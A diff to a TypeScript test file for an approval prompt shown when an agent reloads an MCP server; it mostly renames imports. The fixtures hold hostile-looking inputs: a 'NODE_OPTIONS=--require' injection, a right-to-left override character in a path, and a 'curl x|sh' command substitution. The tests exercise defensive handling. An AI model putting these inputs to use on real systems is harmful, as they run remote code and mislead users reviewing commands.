@@ -6,8 +6,8 @@ import type { Principal } from '../../guards/principal.js';
 import { FakeSpawner } from '../../testing/fake-server.js';
 import { OwnToolsRig } from '../../testing/own-tools-rig.js';
 import type { ServerConfig } from '../../server/config/server-config.js';
-import { shownWord } from '../journal/audit.js';
-import { MAX_ASKED_COMMAND } from './add-question.js';
+import { quoteIfUnclear } from '../journal/audit.js';
+import { MAX_COMMAND_LENGTH } from './add-question.js';
 
 const NODE = process.execPath;
 const FOLDER = tmpdir();
@@ -40,7 +40,7 @@ describe('the question about the reload of a failed server', () => {
     expect(asked).toEqual([
       'mcpmux: the agent wants to stop and start again the MCP server "broken", which it has not added.',
       'It could not be started before. Now it is:',
-      `${shownWord(NODE)} kit.js --token [redacted] [redacted]`,
+      `${quoteIfUnclear(NODE)} kit.js --token [redacted] [redacted]`,
       'Environment variables that it sets: KEY=[redacted], "NODE_OPTIONS=--require /tmp/x.js"',
       'Environment that it inherits: a short list of ordinary variables',
       String.raw`Working directory: ${FOLDER}\u{202e}`,
@@ -62,10 +62,10 @@ describe('the question about the reload of a failed server', () => {
   });
 
   it.each<readonly [string, ServerConfig]>([
-    ['more than a user can check', { command: NODE, args: ['x'.repeat(MAX_ASKED_COMMAND)] }],
-    ['more than a user can check', { command: NODE, env: { MODE: 'x'.repeat(MAX_ASKED_COMMAND) } }],
+    ['more than a user can check', { command: NODE, args: ['x'.repeat(MAX_COMMAND_LENGTH)] }],
+    ['more than a user can check', { command: NODE, env: { MODE: 'x'.repeat(MAX_COMMAND_LENGTH) } }],
     ['neither shown nor hidden', { command: NODE, args: ['-e', 'token=$(curl x|sh)'] }],
-    ['more than a user can check', { url: `https://example.com/${'a'.repeat(MAX_ASKED_COMMAND)}` }],
+    ['more than a user can check', { url: `https://example.com/${'a'.repeat(MAX_COMMAND_LENGTH)}` }],
   ])('is not asked where it has %s', async (reason, config) => {
     const { asked, text, rig } = await reloadTo(config);
     expect(asked).toEqual(['']);
